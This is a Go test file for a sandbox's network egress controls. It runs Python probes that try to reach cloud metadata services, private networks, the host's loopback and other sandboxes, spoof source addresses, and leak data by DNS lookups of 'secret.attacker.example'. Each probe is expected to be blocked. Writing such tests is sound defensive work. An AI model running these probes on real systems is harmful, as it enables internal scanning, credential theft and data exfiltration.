package nsjail

import (
	"fmt"
	"log/slog"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/bullpen-run/bullpen/proto"
	"github.com/bullpen-run/bullpen/worker/jail"
	"github.com/bullpen-run/bullpen/worker/jail/egress"
)

// These attacks need no reachable target: what they try is refused everywhere. Packages egress and
// e2e test programs that do reach a target.

func unrestricted(s *jail.Spec) { s.Network = proto.Network{Policy: proto.NetworkUnrestricted} }

// listed sets an allowlist with entries that no allowlist can grant.
func listed(s *jail.Spec) {
	s.Network = proto.Network{Policy: proto.NetworkAllowlist, Allow: []string{
		"listed.example", "127.0.0.0/8", "169.254.169.254", "10.0.0.0/8", "fd00::/8", "8.8.8.8:53",
	}}
}

// openNetwork opens a worker's egress network. Its upstream resolver never answers.
func openNetwork(t testing.TB) *egress.Network {
	t.Helper()
	silent, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = silent.Close() })
	n, err := egress.Open(t.Context(), egress.Config{
		Upstreams: []netip.AddrPort{netip.MustParseAddrPort(silent.LocalAddr().String())},
		Log:       slog.New(slog.NewTextHandler(t.Output(), nil)),
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := n.Close(); err != nil {
			t.Error(err)
		}
	})
	return n
}

// rejections returns a check that no traffic was counted and that exactly these connections are
// reported as blocked.
func rejections(want ...proto.BlockedConnection) func(testing.TB, result) {
	return func(t testing.TB, r result) {
		t.Helper()
		total := r.Network.BlockedTotal
		want := &proto.NetworkUsage{BlockedConnections: want, BlockedTotal: total}
		if d := cmp.Diff(want, r.Network, cmpopts.IgnoreFields(proto.BlockedConnection{}, "At"),
			cmpopts.EquateEmpty()); d != "" {
			t.Error(d)
		}
		if listed := int64(len(want.BlockedConnections)); total < listed || listed == 0 && total > 0 {
			t.Errorf("%d rejections in all, %d listed", total, listed)
		}
	}
}

// connections returns an attack that tries TCP connections. Each must be refused at once and
// reported with this reason.
func connections(name string, limits func(*jail.Spec), reason proto.BlockReason, to ...string) attack {
	a := attack{name: name, language: "python", limits: limits, code: errnos}
	var want []proto.BlockedConnection
	var printed strings.Builder
	for _, hostPort := range to {
		at := netip.MustParseAddrPort(hostPort)
		a.code += fmt.Sprintf("print(no(socket.create_connection, ('%s', %d), 60))\n", at.Addr(), at.Port())
		printed.WriteString("ECONNREFUSED\n")
		want = append(want, proto.BlockedConnection{
			Address: at.Addr().String(), Port: int(at.Port()), Protocol: "tcp",
			Reason: reason,
		})
	}
	a.stdout, a.also = printed.String(), rejections(want...)
	return a
}

func unrestrictedAttacks() []attack {
	return []attack{
		connections("unrestricted: metadata services", unrestricted, proto.BlockedAddress,
			"169.254.169.254:80", "[fd00:ec2::254]:80", "100.100.100.200:80", "168.63.129.16:80", "192.0.0.192:80"),
		connections("unrestricted: private networks", unrestricted, proto.BlockedAddress,
			"10.0.0.1:80", "172.17.0.1:80", "192.168.0.1:80", "100.64.0.1:80", "[fc00::1]:80"),
		connections("unrestricted: addresses in other forms", unrestricted, proto.BlockedAddress,
			"[64:ff9b::a9fe:a9fe]:80", "[2002:a9fe:a9fe::1]:80", "[::a9fe:a9fe]:80"),
		connections("unrestricted: other resolvers", unrestricted, proto.BlockedResolver, "8.8.8.8:53",
			"[2606:4700:4700::1111]:53"),
		{name: "unrestricted: the host's own addresses", run: hostAddresses},
		{name: "unrestricted: what listens on the host's loopback", run: func(t *testing.T, m *Maker) {
			hostLoopbackFrom(t, m, unrestricted)
		}},
		{name: "unrestricted: another sandbox", run: otherSandbox},
		{name: "unrestricted: datagrams to private networks", language: "python", limits: unrestricted, code: errnos + `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(60)
s.connect(('10.0.0.1', 53))
s.send(b'x')
print(no(s.recv, 1))`, stdout: "ECONNREFUSED", also: rejections(
			proto.BlockedConnection{Address: "10.0.0.1", Port: 53, Protocol: "udp", Reason: proto.BlockedAddress},
		)},
		{
			name: "unrestricted: more connections than the record lists", language: "python", limits: unrestricted,
			code: errnos + `
print({no(socket.create_connection, ('10.0.0.1', port), 60) for port in range(1, 31) for again in range(2)})`,
			stdout: "{'ECONNREFUSED'}",
			also: func(t testing.TB, r result) {
				t.Helper()
				if len(r.Network.BlockedConnections) != proto.MaxBlocked || r.Network.BlockedTotal != 60 {
					t.Errorf("%d listed, %d in all, want %d and 60", len(r.Network.BlockedConnections), r.Network.BlockedTotal,
						proto.MaxBlocked)
				}
			},
		},
		{name: "unrestricted: raw sockets, packets and pings", language: "python", limits: unrestricted, code: tried(
			"socket.socket, socket.AF_INET, socket.SOCK_RAW, 6", "socket.socket, socket.AF_INET, socket.SOCK_DGRAM, 1",
			"socket.socket, socket.AF_PACKET, socket.SOCK_RAW", "socket.socket, socket.AF_INET6, socket.SOCK_RAW, 58",
		), stdout: "EPERM\nEPROTONOSUPPORT\nEAFNOSUPPORT\nEPERM", also: rejections()},
		{name: "unrestricted: addresses of others as its own", language: "python", limits: unrestricted, code: errnos + `
for family, level, free, transparent, sources, to in ((socket.AF_INET, 0, 15, 19, ('1.1.1.1', '127.0.0.2', '169.254.169.254'), '10.0.0.1'),
        (socket.AF_INET6, 41, 78, 75, ('2606:4700:4700::1111', '::1', 'fe80::1%lo'), 'fc00::1')):
    for source in sources:
        for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
            s = socket.socket(family, kind)
            s.setsockopt(level, free, 1)
            if no(s.setsockopt, level, transparent, 1) != 'EPERM': print('transparent')
            s.setblocking(False)
            s.bind(socket.getaddrinfo(source, 4000)[0][4])
            s.connect_ex((to, 53))
            if kind == socket.SOCK_DGRAM: no(s.send, b'x')
    honest = socket.socket(family, socket.SOCK_DGRAM)
    honest.settimeout(60)
    honest.connect((to, 9))
    print(honest.send(b'x'), no(honest.recv, 1))`, stdout: "1 ECONNREFUSED\n1 ECONNREFUSED", also: rejections(
			proto.BlockedConnection{Address: "10.0.0.1", Port: 9, Protocol: "udp", Reason: proto.BlockedAddress},
			proto.BlockedConnection{Address: "fc00::1", Port: 9, Protocol: "udp", Reason: proto.BlockedAddress},
		)},
		{
			name: "unrestricted: data in the first packet of a connection", language: "python", limits: unrestricted,
			code: errnos + `
for family, to in (socket.AF_INET, ('10.0.0.1', 80)), (socket.AF_INET6, ('fc00::1', 80)), (socket.AF_INET, ('8.8.8.8', 53)):
    s = socket.socket(family)
    print(no(s.sendto, b'x', socket.MSG_FASTOPEN, to))
    s = socket.socket(family)
    s.setsockopt(6, 30, 1) # TCP_FASTOPEN_CONNECT
    s.setsockopt(6, 34, 1) # TCP_FASTOPEN_NO_COOKIE
    s.connect(to)
    print(no(s.send, b'x'))`, stdout: strings.Repeat("ECONNREFUSED\n", 6), also: rejections(
				proto.BlockedConnection{Address: "10.0.0.1", Port: 80, Protocol: "tcp", Reason: proto.BlockedAddress},
				proto.BlockedConnection{Address: "fc00::1", Port: 80, Protocol: "tcp", Reason: proto.BlockedAddress},
				proto.BlockedConnection{Address: "8.8.8.8", Port: 53, Protocol: "tcp", Reason: proto.BlockedResolver},
			),
		},
		{
			name: "unrestricted: another address, interface or route", language: "python", limits: unrestricted,
			code: netlinkAttack, stdout: "EPERM EPERM EPERM\nEPERM", also: rejections(),
		},
	}
}

func allowlistAttacks() []attack {
	return []attack{
		connections("allowlist: what it does not name", listed, proto.BlockedNotAllowed, "1.1.1.1:80",
			"[2606:4700:4700::1111]:443", "8.8.8.8:443"),
		connections("allowlist: metadata and private networks that it names", listed, proto.BlockedAddress,
			"169.254.169.254:80", "10.0.0.1:80", "[fd00:ec2::254]:80"),
		connections("allowlist: a resolver that it names", listed, proto.BlockedResolver, "8.8.8.8:53"),
		{name: "allowlist: what listens on the host's loopback, which it names", run: func(t *testing.T, m *Maker) {
			hostLoopbackFrom(t, m, listed)
		}},
		{name: "allowlist: telling somebody something by asking for names", language: "python", limits: listed, code: `
import socket
for name in 'secret.attacker.example', 'x.listed.example':
    try: socket.getaddrinfo(name, 80)
    except socket.gaierror as e: print(e.errno)`, stdout: "-3\n-3", also: rejections(
			proto.BlockedConnection{Host: "secret.attacker.example", Protocol: "dns", Reason: proto.BlockedNotAllowed},
			proto.BlockedConnection{Host: "x.listed.example", Protocol: "dns", Reason: proto.BlockedNotAllowed},
		)},
	}
}

// hostAddresses tries every address of the host, including those that other hosts use to reach it.
func hostAddresses(t *testing.T, m *Maker) {
	l, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = l.Close() }()
	port := l.Addr().(*net.TCPAddr).Port
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var to []string
	for _, a := range addrs {
		p := netip.MustParsePrefix(a.String())
		if p.Addr().IsLoopback() || p.Addr().IsLinkLocalUnicast() {
			continue // the jail has its own
		}
		if to = append(to, netip.AddrPortFrom(p.Addr(), uint16(port)).String()); len(to) == proto.MaxBlocked {
			break // no more than MaxBlocked are reported
		}
	}
	a := connections("", unrestricted, proto.BlockedAddress, to...)
	a.check(t, a.attempt(t, m))
}

// hostLoopbackFrom listens on the host's loopback, as NATS and the gateway do. A jail must reach
// only its own loopback.
func hostLoopbackFrom(t *testing.T, m *Maker, limits func(*jail.Spec)) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = l.Close() }()
	a := attack{
		language: "python", limits: limits, stdout: "ECONNREFUSED", also: rejections(),
		code: tried("socket.create_connection, ('127.0.0.1', " + strconv.Itoa(l.Addr().(*net.TCPAddr).Port) + "), 60"),
	}
	a.check(t, a.attempt(t, m))
}

// otherSandbox tries to reach a program that listens in another jail.
func otherSandbox(t *testing.T, m *Maker) {
	spec := testSpec()
	unrestricted(&spec)
	out := newLines()
	server := program(t, "python", `
import socket, sys
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.connect(('1.1.1.1', 9))
print(probe.getsockname()[0], flush=True)
s = socket.create_server(('', 8000))
print('up', flush=True)
s.accept()
print('reached')`)
	server.Stdout = out
	j := prepare(t, m, spec)
	done := make(chan jail.Outcome, 1)
	go func() {
		o, err := j.Run(t.Context(), server)
		if err != nil {
			t.Error(err)
		}
		done <- o
	}()
	addr := out.next(t)
	out.next(t)
	a := connections("", unrestricted, proto.BlockedAddress, addr+":8000")
	a.check(t, a.attempt(t, m))
	if err := j.Close(); err != nil {
		t.Error(err)
	}
	if o := <-done; o.Kind != jail.Killed {
		t.Errorf("the other program ended: %+v", o)
	}
	if len(out.c) > 0 {
		t.Errorf("output of the other program: %q", <-out.c)
	}
}
